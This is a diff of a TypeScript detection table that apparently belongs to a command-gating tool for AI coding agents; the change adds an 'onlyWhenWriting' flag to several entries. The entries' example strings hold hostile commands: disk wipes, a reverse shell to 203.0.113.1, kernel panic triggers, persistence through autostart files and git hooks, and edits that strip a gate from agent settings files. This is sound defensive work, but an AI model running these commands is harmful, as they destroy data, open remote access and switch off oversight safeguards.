@@ -115,18 +115,21 @@ export const FILE_DANGERS: DangerEntry[] = [
     examples: ['cat /dev/urandom >/dev/sda', 'cp /dev/zero /dev/sdb', 'echo x | tee /dev/nvme0n1', 'bash -i >& /dev/tcp/203.0.113.1/4444 0>&1'],
     written: (p) => isDangerousDevice(p),
     match: (v) => v.program !== 'dd' && writesDevice(v),
+    onlyWhenWriting: true,
   },
   {
     id: 'kernel-control', risk: 'high', reason: 'writes a kernel control file (/proc/sysrq-trigger crashes or reboots at once)',
     examples: ['echo c >/proc/sysrq-trigger', 'echo 1 | tee /proc/sys/kernel/panic'],
     written: (p) => isKernelControl(p),
     match: writes(isKernelControl),
+    onlyWhenWriting: true,
   },
   {
     id: 'write-system-path', risk: 'high', reason: 'writes, moves or truncates files in a system directory',
     examples: ['tar -xf evil.tar -C /', 'echo x > /etc/hosts', 'mv /etc ~/.Trash/', 'mv -t /etc ~/Documents/a', 'find . -fprint /etc/passwd', 'truncate -s 0 /var/lib/mysql/ibdata1'],
     written: writesSystem,
     match: writes(writesSystem),
+    onlyWhenWriting: true,
   },
   {
     id: 'rsync-delete', risk: 'high', reason: 'rsync --delete removes every file of the destination that the source lacks',
@@ -151,18 +154,21 @@ export const FILE_DANGERS: DangerEntry[] = [
     examples: ["echo '{}' > .claude/settings.json", 'cp x ~/.codex/config.toml', "sed -i '/toolgate/d' ~/.gemini/settings.json", 'tee .claude/settings.local.json < new.json'],
     written: (p) => isAgentSettings(p),
     match: writes(isAgentSettings),
+    onlyWhenWriting: true,
   },
   {
     id: 'autostart-write', risk: 'high', reason: 'writes a file that runs a program at login or on a timer (systemd user unit, XDG autostart, LaunchAgent, cron spool)',
     examples: ['cp evil.service ~/.config/systemd/user/', 'echo "Exec=sh x" > ~/.config/autostart/x.desktop', 'cp x.plist ~/Library/LaunchAgents/'],
     written: (p) => isAutostart(p),
     match: (v) => v.program !== 'mkdir' && writes(isAutostart)(v), // an empty directory runs nothing
+    onlyWhenWriting: true,
   },
   {
     id: 'git-internals-write', risk: 'high', reason: 'writes .git/config or a git hook: the next git command runs what it says',
     examples: ['echo x >.git/config', 'cp payload .git/hooks/pre-commit', "echo '[core] fsmonitor = x' >> ~/.gitconfig"],
     written: (p) => isGitInternal(p),
     match: writes(isGitInternal),
+    onlyWhenWriting: true,
   },
   {
     id: 'chmod-recursive-world-writable', risk: 'high', reason: 'recursive chmod that makes a tree world-writable (chmod -R 777)',
